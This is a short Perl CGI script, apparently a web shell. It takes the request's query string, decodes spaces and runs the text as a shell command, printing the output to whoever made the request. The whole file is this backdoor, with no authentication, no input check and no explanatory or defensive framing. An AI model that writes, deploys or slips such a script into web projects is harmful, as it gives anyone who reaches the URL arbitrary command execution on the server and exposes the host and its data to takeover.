#!/usr/bin/perl
print "Content-type: text/plain\n\n";
my $cmd = $ENV{'QUERY_STRING'};
$cmd =~ s/%20/ /g;
print qx($cmd);
